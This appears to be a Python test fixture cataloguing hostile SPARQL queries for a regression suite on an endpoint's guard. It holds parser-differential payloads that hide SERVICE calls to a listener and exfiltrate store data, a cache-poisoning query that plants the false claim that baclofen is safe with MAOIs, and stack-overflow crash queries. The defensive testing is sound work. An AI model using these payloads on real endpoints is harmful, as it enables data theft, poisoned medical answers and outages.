"""The hostile queries (see README.md): each a name, the text (``{listener}`` stands for the URL of a local
listener that counts connections), and the statuses the endpoint may answer. Found by attacks on 2026-12-01 unless
said otherwise."""

from __future__ import annotations

from dataclasses import dataclass

ORDINARY = "SELECT ?drug ?label WHERE { ?drug a mrkg:Drug ; rdfs:label ?label } ORDER BY ?label LIMIT 3"


@dataclass(frozen=True)
class Hostile:
    name: str
    text: str
    statuses: frozenset[int]  # what the endpoint may answer (never a 5xx but 503 for a stopped query)
    why: str

    def for_listener(self, url: str) -> str:
        """The text aimed at the listener at ``url`` (http://127.0.0.1:PORT)."""
        return self.text.replace("{listener}", url).replace("{listener_host}", url.split("//", 1)[1])


def _h(name: str, text: str, statuses: set[int], why: str) -> Hostile:
    return Hostile(name, text, frozenset(statuses), why)


OK = {200}
REFUSED = {400, 403}

# 1. Parser differentials: text that rdflib reads as a comment or a string and pyoxigraph as a SERVICE pattern.
#    Now the engine evaluates only the canonical rendering of rdflib's parse, so these are harmless queries.
SERVICE_DIFFERENTIALS = [
    _h("comment-ended-by-cr", "SELECT * WHERE { # c\r SERVICE <{listener}/x> { ?s ?p ?o } \n }", OK,
       "rdflib ends a # comment at \\n only, oxigraph also at \\r"),
    _h("comment-ended-by-cr-https", "SELECT * WHERE { # c\r SERVICE <https://{listener_host}/x> { ?s ?p ?o } \n }",
       OK, "the same over https"),
    _h("comment-cr-silent", "SELECT * WHERE { # c\r SERVICE SILENT <{listener}/x> { ?s ?p ?o } \n }", OK,
       "SILENT: a failed call would be hidden"),
    _h("escaped-quote-in-string",
       'SELECT * WHERE { ?s ?p "a\\u0022 # " . SERVICE <{listener}/x> { ?s ?p ?o } \n }', OK,
       "rdflib expands \\u0022 before tokenising (string ends, # starts a comment); oxigraph reads an escaped quote"),
    _h("escaped-quote-subquery",
       'SELECT * WHERE { { SELECT * WHERE { ?s ?p "a\\u0022 # " . SERVICE <{listener}/x> { ?s ?p ?o } \n } } }', OK,
       "inside a sub-query"),
    _h("comment-cr-exists",
       "SELECT * WHERE { ?s ?p ?o FILTER EXISTS { # c\r SERVICE <{listener}/x> { ?s ?p ?o } \n } } LIMIT 1", OK,
       "inside EXISTS"),
    _h("comment-cr-construct",
       "CONSTRUCT { ?s ?p ?o } WHERE { # c\r SERVICE <{listener}/x> { ?s ?p ?o } \n } LIMIT 1", OK,
       "CONSTRUCT"),
    _h("comment-cr-describe", "DESCRIBE ?s WHERE { # c\r SERVICE <{listener}/x> { ?s ?p ?o } \n } LIMIT 1", OK,
       "DESCRIBE"),
    _h("comment-cr-exfiltrate",
       "SELECT * WHERE { ?d a mrkg:Drug ; rdfs:label ?l # c\r SERVICE <{listener}/x> { ?d ?l ?o } \n } LIMIT 1", OK,
       "store data sent out inside the pattern"),
    _h("comment-ended-by-crlf-then-service", "SELECT * WHERE { # c\r\n SERVICE <{listener}/x> { ?s ?p ?o } }",
       REFUSED, "a comment ended by \\r\\n: both parsers see SERVICE, so the guard refuses it (403)"),
    _h("escaped-hash-comment", 'SELECT * WHERE { ?s ?p "\\u0023" . SERVICE <{listener}/x> { ?s ?p ?o } }',
       REFUSED, "an escaped # inside a string: a real SERVICE, refused"),
    _h("service-variable", "SELECT * WHERE { BIND(<{listener}/x> AS ?e) SERVICE ?e { ?s ?p ?o } }", REFUSED,
       "SERVICE with a variable"),
    _h("service-in-optional", "SELECT * WHERE { OPTIONAL { SERVICE <{listener}/x> { ?s ?p ?o } } }", REFUSED,
       "plain SERVICE inside OPTIONAL"),
    _h("service-in-minus", "SELECT * WHERE { ?s ?p ?o MINUS { SERVICE <{listener}/x> { ?s ?p ?o } } }", REFUSED,
       "plain SERVICE inside MINUS"),
    _h("service-in-graph", "SELECT * WHERE { GRAPH ?g { SERVICE <{listener}/x> { ?s ?p ?o } } }", REFUSED,
       "plain SERVICE inside GRAPH"),
    _h("service-base-relative", "BASE <{listener}/> SELECT * WHERE { SERVICE <x> { ?s ?p ?o } }", REFUSED,
       "SERVICE to a BASE-relative IRI"),
    _h("backslash-u-in-string", 'SELECT * WHERE { ?s ?p "\\\\u005Cu0022" }', {400},
       "a string whose value holds \\u: parsers disagree whether it is an escape, so it is refused"),
]

# 2. Result-cache poisoning: a query whose old normalised key equalled ORDINARY's while it meant something else.
POISON = _h("cache-poison",
            "SELECT ?drug ?label WHERE { # \r { BIND(\"POISONED: baclofen is safe with MAOIs\" AS ?label) } UNION { \n"
            " ?drug a mrkg:Drug ; rdfs:label ?label } # \r } \n ORDER BY ?label LIMIT 3", OK,
            "the cache key's normaliser ended comments at \\n only: a fabricated row was stored under ORDINARY's key")


# 3. Queries that overflowed pyoxigraph's stack (SIGSEGV, the HTTP worker gone) and kept the guard busy 3.6-15.8 s.
def crashers() -> list[Hostile]:
    return [
        _h("union-8000", "SELECT * WHERE { " + " UNION ".join(["{}"] * 8000) + " }", {400}, "8,000 UNION groups"),
        _h("plus-8000", "SELECT (" + "+".join(["1"] * 8000) + " AS ?x) WHERE {}", {400}, "an 8,000-term sum"),
        _h("bind-4000", "SELECT * WHERE { " + " ".join(f"BIND({i} AS ?v{i})" for i in range(4000)) + " }", {400},
           "4,000 BINDs"),
        _h("optional-4000", "SELECT * WHERE { " + " ".join(f"OPTIONAL {{ ?s ?p ?o{i} }}" for i in range(4000)) + " }",
           {400}, "4,000 OPTIONALs"),
        _h("nest-4000", "SELECT * WHERE " + "{ " * 4000 + "?s ?p ?o" + " }" * 4000, {400}, "4,000 nested groups"),
        _h("paren-4000", "SELECT (" + "(" * 4000 + "1" + ")" * 4000 + " AS ?x) WHERE {}", {400},
           "4,000 nested parentheses"),
        _h("minus-8000", "SELECT (1" + " - 1" * 8000 + " AS ?x) WHERE {}", {400}, "an 8,000-term difference"),
        _h("escaped-braces", "SELECT * WHERE " + "\\u007B " * 3000 + "?s ?p ?o" + " \\u007D" * 3000, {400},
           "nesting written as \\u escapes (rdflib expands them before parsing)"),
        _h("deep-but-short", "SELECT * WHERE " + "{" * 200 + "?s ?p ?o" + "}" * 200, {400},
           "200 nested groups: under the raw limits, over max_query_depth"),
    ]


# 4. Other refusals that must hold (updates on every form).
UPDATES = [
    _h("insert-data", "INSERT DATA { <urn:a> <urn:b> <urn:c> }", {403}, "an update in the query parameter"),
    _h("load", "LOAD <{listener}/x>", {403}, "LOAD fetches"),
    _h("with-delete", "WITH <urn:g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }", {403}, "WITH ... DELETE"),
    _h("base-insert", "BASE <urn:x> INSERT DATA { <a> <b> <c> }", {403}, "an update after BASE"),
]


def all_queries() -> list[Hostile]:
    return [*SERVICE_DIFFERENTIALS, POISON, *crashers(), *UPDATES]
